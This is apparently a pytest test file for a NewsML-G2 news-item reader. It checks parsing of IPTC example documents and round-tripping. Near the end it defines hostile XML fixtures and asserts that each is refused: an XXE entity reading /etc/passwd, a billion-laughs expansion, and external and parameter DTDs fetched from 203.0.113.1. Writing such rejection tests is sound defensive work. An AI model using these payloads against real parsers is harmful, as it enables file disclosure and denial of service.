"""Reading items back: newsml's own, IPTC's examples, and hostile documents."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from newsml.model import Article
from newsml.read.newsml import NotAnItemError, UnsafeDocumentError, from_newsml
from newsml.render.newsml import news_message, to_newsml
from newsml.text import segment
from tests.render.itemcheck import FIXED, assert_valid


@pytest.fixture(scope="module")
def examples(schema_dir: Path) -> Path:
    return schema_dir / "iptc-examples"


def test_listing_2_text_headline_byline_and_metadata(examples: Path) -> None:
    article = from_newsml((examples / "LISTING_2_NewsML-G2_Text_Document.xml").read_bytes())
    paragraphs = [span.of(article.text) for span in article.paragraphs]
    assert len(paragraphs) == 2
    assert paragraphs[0].startswith("(New York, NY - October 21) Et, sent luptat luptat, commy Nim")
    assert paragraphs[1].endswith("esto cons dolutpat, si.")
    assert article.text == "\n\n".join(paragraphs)
    assert article.headline == 'Fed to halt QE to avert "bubble"'
    assert article.byline == "By Meredith Jameson, Staff Reporter"
    assert article.language == "en-US"
    assert article.metadata.version == 11
    assert article.metadata.located == "New York, NY"
    assert article.metadata.content_created == dt.datetime.fromisoformat(
        "2016-11-21T15:21:06-05:00"
    )
    assert [source.name for source in article.sources] == ["Associated Press"]
    assert_valid(to_newsml(article, FIXED))


def test_listing_22_subjects_become_entities(examples: Path) -> None:
    article = from_newsml((examples / "LISTING_22_Sports_story_in_NewsML-G2NITF.xml").read_bytes())
    assert len(article.paragraphs) == 6
    assert article.text.startswith(
        "(Sports Network) - A pair of teams coming off big weekend sweeps will"
    )
    assert article.headline.startswith("Preview: Arizona Diamondbacks (29-23)")
    assert article.byline == "Sports Network"
    people = [entity.name for entity in article.entities if entity.kind == "person"]
    assert people == ["Doug Davis", "Freddy Garcia"]
    assert article.metadata.id == "tag:xmlteam.com,2016:xt.5932656-preview"
    assert_valid(to_newsml(article, FIXED))


def test_own_item_reads_back_whole_and_from_text_too() -> None:
    text = "Title line\r\n\r\nBody with \u2018quotes\u2019 and\ttabs.\n"
    article = segment(text, None)
    data = to_newsml(article, FIXED)
    again = from_newsml(data.decode("utf-8"))
    assert again.text == text
    assert again.paragraphs == article.paragraphs
    assert again.headline == article.title()
    assert to_newsml(again, FIXED) == data


def test_first_item_of_a_news_message() -> None:
    data = to_newsml(Article(text="Hello there."), FIXED)
    message = news_message([data], sent=dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    assert from_newsml(message).text == "Hello there."


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">&secret;</newsItem>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">&lol9;</newsItem>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem SYSTEM "http://203.0.113.1/evil.dtd">
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/"/>"""

PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY % remote SYSTEM "http://203.0.113.1/x.dtd"> %remote;]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/"/>"""


@pytest.mark.parametrize("document", [XXE, LAUGHS, EXTERNAL_DTD, PARAMETER, XXE.decode("utf-8")])
def test_entity_declarations_and_external_dtds_are_refused(document: bytes | str) -> None:
    with pytest.raises(UnsafeDocumentError, match="(?i)entit|DTD"):
        from_newsml(document)


def test_unsafe_error_is_a_value_error() -> None:
    assert issubclass(UnsafeDocumentError, ValueError)


def test_not_an_item() -> None:
    with pytest.raises(NotAnItemError, match="not a NewsML-G2 newsItem"):
        from_newsml(b"<html/>")
